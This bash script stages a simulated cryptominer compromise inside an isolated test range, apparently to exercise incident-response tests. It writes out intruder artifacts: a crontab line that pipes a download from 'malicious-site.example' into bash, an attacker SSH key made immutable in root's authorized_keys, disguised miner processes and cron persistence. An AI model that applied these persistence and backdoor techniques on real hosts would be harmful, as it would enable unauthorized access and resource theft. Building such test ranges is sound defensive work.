#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
#
# Stages, inside a range, the host that a cryptominer has been running on, and
# returns once all of it is up. What tests need to know is in /run/range/incident,
# to be sourced. All addresses are from the documentation blocks, all traffic stays
# between two network namespaces of the range, and all programs end by themselves.
#
#   this host 192.168.1.100 ---- "internet", a network namespace:
#                                192.168.1.1    the gateway
#                                203.0.113.67   the miner's server, port 3333
#                                198.51.100.10  an operator, who is logged in by ssh
#
# Programs: TOP_BUILDDIR/tests/range/{miner,sleeper,listener}, harmless stand-ins.
set -eu

[ "${IN_RANGE:-}" = yes ] || { echo "incident: not in a range; see range.sh" >&2; exit 2; }
[ ! -e /run/range/incident ] || { echo "incident: is staged already" >&2; exit 2; }

programs=$TOP_BUILDDIR/tests/range
server=203.0.113.67
operator=198.51.100.10
RANGE_DEADLINE=$(($(date +%s) + ${RANGE_DEADLINE_SECONDS:-120}))
export RANGE_DEADLINE
keys=/run/range/keys

# Runs a program of its own session in the background, with nothing of ours open.
daemon() {
	setsid --fork "$@" </dev/null >/dev/null 2>&1
}

# Waits until a command succeeds.
await() {
	local what=$1 i
	shift
	for i in $(seq 1200); do
		if "$@" >/dev/null 2>&1; then return; fi
		sleep 0.025
	done
	echo "incident: $what did not come up" >&2
	exit 1
}

# ---- the honest part ---------------------------------------------------------

lay_network() {
	ip netns add internet
	ip link add host0 type veth peer name net0 netns internet
	ip addr add 192.168.1.100/24 brd + dev host0
	ip link set host0 up
	ip -n internet addr add 192.168.1.1/24 brd + dev net0
	ip -n internet addr add $server/32 dev lo
	ip -n internet addr add $operator/32 dev lo
	ip -n internet link set lo up
	ip -n internet link set net0 up
	ip route add default via 192.168.1.1
	rm -f /etc/resolv.conf
	echo 'nameserver 192.168.1.53' >/etc/resolv.conf
	daemon ip netns exec internet "$programs/listener" $server 3333
}

# As a firewall manager would have it; it accepts what is established.
lay_firewall() {
	nft -f - <<-'END'
	table inet firewalld {
		set trusted { type ipv4_addr; flags interval; elements = { 192.168.1.0/24 } }
		chain filter_INPUT {
			type filter hook input priority filter + 10; policy accept;
			ct state established,related counter accept
			ip saddr @trusted accept
			tcp dport 22 accept
		}
		chain filter_OUTPUT {
			type filter hook output priority filter + 10; policy accept;
		}
	}
	END
}

add_accounts() {
	getent passwd mysql >/dev/null || useradd --system --shell /usr/sbin/nologin --home-dir /nonexistent mysql
	userdel --remove --force operator >/dev/null 2>&1 || true
	groupadd --force operator
	useradd --create-home --shell /bin/sh --password '*' --gid operator --groups sudo operator
	mkdir -p $keys
	ssh-keygen -q -t ed25519 -N '' -C operator@desk -f $keys/operator
	ssh-keygen -q -t ecdsa -N '' -C backup@store -f $keys/backup
	ssh-keygen -q -t ed25519 -N '' -C root@malicious-site.example -f $keys/attacker
	install -d -m 0700 -o operator -g operator /home/operator/.ssh
	install -m 0600 -o operator -g operator $keys/operator.pub /home/operator/.ssh/authorized_keys
}

configure_sshd() {
	rm -rf /etc/ssh/sshd_config.d /etc/ssh/ssh_host_*
	mkdir /etc/ssh/sshd_config.d
	ssh-keygen -q -t ed25519 -N '' -f /etc/ssh/ssh_host_ed25519_key
	cat >/etc/ssh/sshd_config.d/50-cloud-init.conf <<-'END'
	PasswordAuthentication yes
	PermitRootLogin yes
	END
	cat >/etc/ssh/sshd_config <<-'END'
	# This is the sshd server system-wide configuration file.
	Include /etc/ssh/sshd_config.d/*.conf

	Port 22
	HostKey /etc/ssh/ssh_host_ed25519_key

	#LoginGraceTime 2m
	PermitRootLogin yes
	#StrictModes yes
	KbdInteractiveAuthentication no
	UsePAM yes
	X11Forwarding no
	PrintMotd no
	AcceptEnv LANG LC_*
	Subsystem	sftp	/usr/lib/openssh/sftp-server

	# the backup store logs in from the same network
	Match Address 192.168.1.0/24
	    X11Forwarding no
	    PermitRootLogin yes
	END
	/usr/sbin/sshd
	await sshd test -s /run/sshd.pid
}

start_database() {
	install -m 0755 "$programs/sleeper" /usr/sbin/mysqld
	# What came in through the database runs as its child and as its user.
	daemon setpriv --reuid mysql --regid mysql --clear-groups /usr/sbin/mysqld \
		/usr/local/bin/xmrig -o $server:3333
}

operator_logs_in() {
	daemon ip netns exec internet ssh -i $keys/operator -b $operator \
		-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o LogLevel=ERROR \
		operator@192.168.1.100 "exec sleep ${RANGE_DEADLINE_SECONDS:-120}"
	await "the operator's session" pgrep -u operator -x sleep
}

# ---- what the intruder left ---------------------------------------------------

drop_files() {
	install -m 0755 "$programs/miner" /usr/local/bin/xmrig
	setfattr -n user.origin -v m.sh /usr/local/bin/xmrig 2>/dev/null || true
	cat >/tmp/malicious.sh <<-END
	#!/bin/sh
	# inert: nothing runs this
	exec /usr/local/bin/xmrig -o $server:3333 -w
	END
	chown mysql:mysql /tmp/malicious.sh
	chmod 0777 /tmp/malicious.sh
	mkdir -p /etc/cron.hourly
	printf '#!/bin/sh\n/tmp/malicious.sh >/dev/null 2>&1\n' >/etc/cron.hourly/malicious
	chmod 0755 /etc/cron.hourly/malicious
}

add_cron_line() {
	local spool=/var/spool/cron/crontabs
	mkdir -p $spool
	cat >$spool/root <<-'END'
	# m h  dom mon dow   command
	17 * * * * /usr/bin/wget -q -O /dev/null https://status.example/ping
	*/5 * * * * wget -qO- http://malicious-site.example/m.sh | bash
	30 2 * * * /usr/local/sbin/backup --all
	END
	chmod 0600 $spool/root
	if getent group crontab >/dev/null; then chgrp crontab $spool/root; fi
}

add_key() {
	rm -rf /root/.ssh
	install -d -m 0700 /root/.ssh
	{
		echo '# operators'
		echo "from=\"198.51.100.0/24,192.168.1.0/24\",no-agent-forwarding $(cat $keys/operator.pub)"
		cat $keys/attacker.pub
		printf 'restrict,command="/usr/local/sbin/backup \\"full\\"" %s' "$(cat $keys/backup.pub)"
	} >/root/.ssh/authorized_keys
	chmod 0600 /root/.ssh/authorized_keys
	chattr +i /root/.ssh/authorized_keys
}

start_miners() {
	daemon /usr/local/bin/xmrig -o $server:3333 -w
	install -d -m 0700 -o mysql -g mysql /var/tmp/.cache
	install -m 0755 -o mysql -g mysql "$programs/miner" /var/tmp/.cache/kdevtmpfsi
	daemon setpriv --reuid mysql --regid mysql --clear-groups /var/tmp/.cache/kdevtmpfsi -o $server:3333
	# three miners, each with a false kernel thread, and the two watchdogs
	await "the miners" sh -c '[ "$(ss -Htn state established dst '$server' | wc -l)" = 3 ]'
	await "the false kernel threads" sh -c '[ "$(pgrep -xc kthreadd)" -ge 3 ]'
	await "the watchdogs" sh -c 'pgrep -x syslog-helper && pgrep -x dbus-helper'
	rm /var/tmp/.cache/kdevtmpfsi
}

lay_network
lay_firewall
add_accounts
configure_sshd
drop_files
add_cron_line
add_key
start_database
start_miners
operator_logs_in

cat >/run/range/incident <<END
SERVER=$server
OPERATOR=$operator
ATTACKER_FINGERPRINT=$(ssh-keygen -l -f $keys/attacker.pub | cut -d' ' -f2)
OPERATOR_FINGERPRINT=$(ssh-keygen -l -f $keys/operator.pub | cut -d' ' -f2)
MYSQLD_PID=$(pgrep -x mysqld)
SSHD_PID=$(cat /run/sshd.pid)
SESSION_PID=$(pgrep -u operator -x sleep)
RANGE_DEADLINE=$RANGE_DEADLINE
END
